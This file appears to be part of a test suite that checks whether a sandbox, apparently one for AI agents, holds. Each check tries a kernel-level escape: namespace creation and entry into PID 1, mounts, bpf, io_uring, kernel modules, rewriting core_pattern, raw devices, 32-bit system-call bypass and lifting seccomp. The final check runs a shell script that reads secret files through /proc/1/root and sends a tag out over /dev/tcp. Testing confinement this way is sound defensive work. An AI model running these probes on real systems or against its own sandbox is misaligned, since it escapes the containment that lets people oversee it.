"""The kernel's own surfaces: namespaces, mounts, modules, clocks, devices, system calls, sockets."""

import ctypes
import os
import socket
import stat
import subprocess

from inside import CALLS, call, first, libc, read, tried, write
from table import row

NAMESPACES = {"mount": 0x00020000, "cgroup": 0x02000000, "ipc": 0x08000000,
              "pid": 0x20000000, "net": 0x40000000, "time": 0x00000080}


@row("KN-01", "a user namespace of its own, by unshare, clone and clone3", ["RestrictNamespaces"], zero="works", says="EPERM ENOSYS")
def _(at):
    def cloned():
        child = libc.syscall(ctypes.c_long(CALLS["clone"]), ctypes.c_long(0x10000011), None, None, None, None)
        if child == 0:
            os._exit(0)
        if child < 0:
            raise OSError(ctypes.get_errno(), "clone")
        os.waitpid(child, 0)

    def cloned3():
        arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
        child = libc.syscall(ctypes.c_long(CALLS["clone3"]), arguments, ctypes.c_long(88))
        if child == 0:
            os._exit(0)
        if child < 0:
            raise OSError(ctypes.get_errno(), "clone3")
        os.waitpid(child, 0)
    return first(cloned, cloned3, lambda: call("unshare", 0x10000000))


@row("KN-02", "every other kind of namespace", ["RestrictNamespaces", "User", "CapabilityBoundingSet"])
def _(at):
    return first(*(lambda f=flag: call("unshare", f) for flag in NAMESPACES.values()))


@row("KN-02c", "a namespace for the host's name, the one kind that the filter lets through", ["User", "CapabilityBoundingSet"], zero="blocked")
def _(at):
    return call("unshare", 0x04000000)


@row("KN-02b", "enter the namespaces of PID 1 and of another agent", ["RestrictNamespaces", "User", "PrivateUsers", "CapabilityBoundingSet"],
     says="EPERM ESRCH ENOENT EACCES")
def _(at):
    def enter(pid, kind):
        fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        return call("setns", fd, 0)

    def by_descriptor(pid):
        opened = call("pidfd_open", pid, 0)
        return call("setns", int(opened.split()[1]), 0x40000000 | 0x04000000) if opened.startswith("GOT") else opened
    return first(*(lambda p=p, k=k: enter(p, k) for p in (1, at.victim["pid"]) for k in ("mnt", "net", "uts", "ipc")),
                 *(lambda p=p: by_descriptor(p) for p in (1, at.victim["pid"])))


@row("KN-03", "mount, unmount, change or move mounts, by the old calls and the new", ["User", "SystemCallFilter", "CapabilityBoundingSet", "PrivateUsers"])
def _(at):
    place = str(at.own).encode()
    return first(lambda: call("fsopen", b"tmpfs", 0), lambda: call("open_tree", -100, place, 1), lambda: call("mount", b"none", place, None, 0x1000 | 0x20, None),
                 lambda: call("mount_setattr", -100, place, 0, ctypes.create_string_buffer(32), 32, passed=("EINVAL",)))


@row("KN-03b", "another root directory: chroot and pivot_root", ["User", "SystemCallFilter", "CapabilityBoundingSet"])
def _(at):
    return first(lambda: call("chroot", b"/tmp"), lambda: call("pivot_root", b"/tmp", b"/nonexistent", passed=("ENOENT",)))


@row("KN-04", "load programs and maps into the kernel (bpf)", ["User", "SystemCallFilter", "CapabilityBoundingSet"])
def _(at):
    # MAP_CREATE of a small array; a kernel with unprivileged_bpf_disabled keeps it from plain users.
    attributes = (ctypes.c_uint32 * 16)(2, 4, 4, 1)
    return call("bpf", 0, attributes, 64)


@row("KN-04b", "watch the processor's counters (perf_event_open)", ["SystemCallFilter"], zero="works")
def _(at):
    attributes = (ctypes.c_uint32 * 32)()
    attributes[0], attributes[1] = 1, 128   # software event
    attributes[10] = 0x61                   # disabled, without kernel and hypervisor
    return call("perf_event_open", attributes, 0, -1, -1, 0)


@row("KN-05", "a ring that makes system calls past the filter (io_uring)", ["SystemCallFilter"], zero="blocked")
def _(at):
    return call("io_uring_setup", 4, ctypes.create_string_buffer(120))


@row("KN-06", "keys in the kernel's keyrings", ["SystemCallFilter"], zero="works", says="EPERM")
def _(at):
    return first(lambda: call("add_key", b"user", f"k-{at.tag}".encode(), b"v", 1, -4), lambda: call("keyctl", 0, -4, 1), lambda: call("keyctl", 0, -3, 1))


def privileged(ident, title, layers, *attempts, says="EPERM", **more):
    row(ident, title, layers, says=says, **more)(lambda at: first(*(lambda a=a: call(*a[0], passed=a[1]) for a in attempts)))


privileged("KN-07", "modules of the kernel", ["User", "ProtectKernelModules", "SystemCallFilter", "CapabilityBoundingSet", "PrivateUsers"],
           (("init_module", 0, 0, 0), ("EFAULT", "ENOEXEC", "EINVAL")), (("finit_module", -1, b"", 0), ("EBADF",)),
           (("delete_module", b"no-such-module", 0x800), ("ENOENT",)),
           needs=lambda: None if os.path.exists("/proc/modules") else "this kernel has no modules")
privileged("KN-07b", "another kernel, reboot, swap, accounting, quota", ["User", "SystemCallFilter", "CapabilityBoundingSet", "PrivateUsers"],
           (("reboot", 0, 0, 0, 0), ("EINVAL",)), (("kexec_load", 0, 0, 0, -1), ("EINVAL",)), (("swapon", 0, 0), ("EFAULT",)),
           (("acct", b"/nonexistent"), ("ENOENT",)))
privileged("KN-07c", "the clock", ["ProtectClock", "SystemCallFilter"], (("settimeofday", 1, 0), ("EFAULT",)), (("clock_adjtime", 0, 1), ("EFAULT",)), zero="works")
privileged("KN-07d", "the host's name", ["User", "ProtectHostname", "SystemCallFilter", "CapabilityBoundingSet", "PrivateUsers"], (("sethostname", 1, 3), ("EFAULT",)))
privileged("KN-07e", "ports of the hardware", ["User", "PrivateDevices", "SystemCallFilter", "CapabilityBoundingSet"], (("iopl", 3), ()), (("ioperm", 0x3bc, 1, 1), ()),
           needs=lambda: None if call("iopl", 0) != "ENOSYS" else "this kernel has no such calls")


def program(code):
    """The smallest ELF for x86-64 with this code."""
    import struct
    head = b"\x7fELF\2\1\1" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    size = 0x78 + len(code)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 4096) + code


@row("KN-10", "system calls of 32-bit programs, which filters may not know", ["SystemCallArchitectures"], says="SIGSYS EPERM")
def _(at):
    # mov eax, 20 (getpid there); int 0x80; exit(eax > 0 ? 42 : 43).
    code = bytes.fromhex("b814000000cd8085c0bf2b0000007e05bf2a000000b83c0000000f05")
    path = at.own / f"i386-{at.tag}"
    path.write_bytes(program(code))
    path.chmod(0o700)
    try:
        status = subprocess.run([path], timeout=20).returncode
    finally:
        path.unlink()
    return "GOT" if status == 42 else "SIGSYS" if status == -31 else "EPERM" if status == 43 else f"BROKEN {status}"


@row("KN-11", "change settings of the kernel", ["User", "ProtectKernelTunables", "ProcSubset"], says="EROFS EACCES ENOENT")
def _(at):
    # What is written is what stands there: whether it can be written is the question.
    def rewrite(path):
        value = read(path).removeprefix("GOT ")
        write(path, value, "r+b")
    return first(*(lambda p=p: rewrite(p) for p in ("/proc/sys/net/core/somaxconn", "/proc/sys/net/ipv4/ip_forward", "/sys/kernel/mm/ksm/run",
                                                     "/proc/sys/kernel/core_pattern")))


@row("KN-12", "open devices: every node in /dev", ["PrivateDevices", "DevicePolicy"], says="BLOCKED", zero="works", before=lambda lab: lab.device())
def _(at):
    usual = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}
    found = []
    for top, folders, names in os.walk("/dev"):
        folders[:] = [f for f in folders if f not in ("shm", "mqueue", "fd")]
        for name in names:
            path = os.path.join(top, name)
            mode = os.lstat(path)
            if name in usual or top.startswith("/dev/pts") or not (stat.S_ISCHR(mode.st_mode) or stat.S_ISBLK(mode.st_mode)):
                continue
            if (os.major(mode.st_rdev), os.minor(mode.st_rdev)) in ((1, 3), (1, 5), (1, 7), (1, 8), (1, 9)):
                continue  # null, zero, full, random and urandom under another name
            if tried(lambda: os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))).startswith("GOT"):
                found.append(path)
    return "GOT " + " ".join(found) if found else "BLOCKED"


@row("KN-13", "read or clear the kernel's log", ["ProtectKernelLogs", "SystemCallFilter"], says="EPERM")
def _(at):
    return first(lambda: call("syslog", 3, ctypes.create_string_buffer(4096), 4096), lambda: call("syslog", 10, 0, 0),
                 lambda: os.close(os.open("/dev/kmsg", os.O_RDONLY)))


@row("KN-14", "what the kernel tells of itself: symbols, modules, timers, keys, settings", ["ProcSubset"], says="ENOENT", zero="works")
def _(at):
    found = [name for name in ("kallsyms", "modules", "version", "cmdline", "meminfo", "keys", "cpuinfo", "uptime", "mounts", "sys/kernel/osrelease")
             if name != "mounts" and os.path.exists(f"/proc/{name}")]
    return f"GOT {' '.join(found)}" if found else "ENOENT"


@row("KN-15", "sockets of every other family (packets, hypervisor, kernel crypto, …)", ["RestrictAddressFamilies"], says="BLOCKED")
def _(at):
    # AF_UNIX and AF_INET stay; AF_INET6 is judged by NW-03.
    got = []
    for family in range(3, 46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            if family == socket.AF_INET6:
                break
            fd = call("socket", family, kind, 0)
            if fd.startswith("GOT"):
                os.close(int(fd.split()[1]))
                got.append(family)
                break
    return f"GOT {got}" if got else "BLOCKED"


@row("KN-15b", "sockets into the hypervisor (AF_VSOCK), which no rule of nftables sees", ["RestrictAddressFamilies"], says="EAFNOSUPPORT")
def _(at):
    # EAFNOSUPPORT is also what a kernel without it says: then the control is void and a family of the same kind stands in.
    said = call("socket", 40, 1, 0)
    return said if said.startswith("GOT") else call("socket", 38, 5, 0)


@row("KN-15c", "ask the kernel for sockets and links of all (netlink)", ["RestrictAddressFamilies"], says="EAFNOSUPPORT")
def _(at):
    return first(*(lambda p=p: call("socket", 16, 3, p) for p in (0, 4, 15, 16)))


@row("KN-18", "take off what holds it: no_new_privs, filters", ["RestrictNamespaces"], zero="works", says="EPERM", )
def _(at):
    call("prctl", 38, 0, 0, 0, 0)
    allow = (ctypes.c_uint64 * 1)(0x7fff000000000006)
    head = (ctypes.c_uint64 * 2)(1, ctypes.addressof(allow))
    call("prctl", 38, 1, 0, 0, 0)
    call("seccomp", 1, 0, head)
    return call("unshare", 0x10000000)


@row("KN-21", "handle the page faults of others (userfaultfd)", ["SystemCallFilter"], zero="works")
def _(at):
    return call("userfaultfd", 1)


@row("KN-22", "memory that even the kernel cannot see (memfd_secret), a place to hide in", one="works", zero="works")
def _(at):
    # Whether the kernel has it at all differs; either way it is no way out.
    said = call("memfd_secret", 0)
    return said if said.startswith("GOT") else f"GOT nothing: {said}"


@row("KN-23", "in a user namespace of its own: leave the root, mount the host, reach the network", ["view", "RestrictNamespaces"], says="BLOCKED", base="agent",
     seen=lambda lab, tag, said: lab.has_secret(said) or lab.arrived(tag))
def _(at):
    script = f"""
mount -t tmpfs none /tmp 2>/dev/null && echo mounted
umount -l /usr /shared/agents /shared / 2>/dev/null
for place in / /proc/1/root /proc/self/root/../..; do cat $place/home/open/secret $place/root/secret 2>/dev/null; done
ip link set lo up 2>/dev/null
exec 3<>/dev/tcp/192.0.2.1/{at.port} && echo {at.tag} >&3
"""
    ran = subprocess.run(["unshare", "-Urmnpf", "--mount-proc", "bash", "-c", script], capture_output=True, text=True, timeout=10)
    return "GOT " + ran.stdout if "CANARY" in ran.stdout else "BLOCKED"
